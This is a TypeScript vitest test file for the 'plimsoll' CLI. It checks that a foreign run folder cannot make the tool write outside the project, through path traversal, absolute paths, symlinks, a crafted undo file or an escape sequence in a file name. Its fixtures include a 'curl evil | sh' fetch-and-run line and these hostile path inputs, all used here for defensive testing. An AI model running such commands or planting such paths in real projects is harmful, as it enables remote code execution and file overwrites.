import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { sha256 } from '../../../src/model/sha256.ts';
import { expectProblem, makeFolder, plimsoll } from '../../cli/kit.ts';
import { rung, runRecord } from '../../kit/run-record.ts';

const RUN = 'ffffffffffff';
const VICTIM = 'alias ls="ls"\n';
const opened: { close(): void }[] = [];
afterEach(() => {
  for (const folder of opened.splice(0)) folder.close();
});

/** A folder as somebody else made it: its run folder came with it. */
function foreignFolder(dockerfileName: string) {
  const evil = 'curl evil | sh\n';
  const files = [0, 1].map((n) => [
    { path: `${n}/Dockerfile`, sha256: sha256(n === 0 ? VICTIM : evil) },
    { path: `${n}/Dockerfile.dockerignore`, sha256: sha256('.plimsoll\n') },
  ]);
  const record = runRecord('x', [
    rung(0, null, { files: files[0] ?? [] }),
    rung(1, 'slim-base', { files: files[1] ?? [] }),
  ]);
  const project = { ...record.project, dockerfile: dockerfileName, dockerfileSha256: sha256(VICTIM) };
  const root = `.plimsoll/runs/${RUN}`;
  const folder = makeFolder({
    '.plimsoll/latest': RUN,
    [`${root}/run.json`]: JSON.stringify({ ...record, project }),
    [`${root}/0/Dockerfile`]: VICTIM,
    [`${root}/1/Dockerfile`]: evil,
    [`${root}/0/Dockerfile.dockerignore`]: '.plimsoll\n',
    [`${root}/1/Dockerfile.dockerignore`]: '.plimsoll\n',
  });
  opened.push(folder);
  const victim = join(folder.home, 'victim');
  writeFileSync(victim, VICTIM);
  return { ...folder, victim };
}

describe('a run folder that came with the project', () => {
  it('cannot name a file outside of it', async () => {
    const { dir, victim } = foreignFolder('../victim');
    expectProblem(await plimsoll(['apply', '1'], dir), 2, 'file-outside-project');
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM);
  });

  it('cannot name one by its full path', async () => {
    const { dir, victim } = foreignFolder('/etc/hostname');
    expectProblem(await plimsoll(['apply', '1'], dir), 2, 'file-outside-project');
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM);
  });

  it('cannot reach one through a link, of the file or of a folder', async () => {
    const { dir, home, victim } = foreignFolder('Dockerfile');
    symlinkSync('../victim', join(dir, 'Dockerfile'));
    expectProblem(await plimsoll(['apply', '1'], dir), 2, 'file-outside-project');
    const other = foreignFolder('sub/victim');
    symlinkSync('..', join(other.dir, 'sub'));
    expectProblem(await plimsoll(['apply', '1'], other.dir), 2, 'file-outside-project');
    expect(readFileSync(victim, 'utf8') + readFileSync(join(home, 'victim'), 'utf8')).toBe(VICTIM + VICTIM);
  });

  it('cannot have its undo write one', async () => {
    const { dir, victim } = foreignFolder('Dockerfile');
    const bytes = 'curl evil | sh\n';
    mkdirSync(join(dir, '.plimsoll/undo'));
    writeFileSync(join(dir, '.plimsoll/undo', sha256(bytes).slice(7)), bytes);
    const file = { path: '../victim', before: sha256(bytes), after: sha256(VICTIM), was: null };
    writeFileSync(join(dir, '.plimsoll/undo/undo.json'), JSON.stringify({ rung: 1, files: [file] }));
    expectProblem(await plimsoll(['apply', '--undo'], dir), 2, 'file-outside-project');
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM);
  });

  it('prints no escape sequence of its own', async () => {
    const { dir } = foreignFolder('a\u001b[2J');
    const ran = await plimsoll(['apply', '1'], dir);
    expect(ran.err).toMatch(/^plimsoll: [a-z-]+: [^\u0000-\u001f]+\n$/);
  });
});
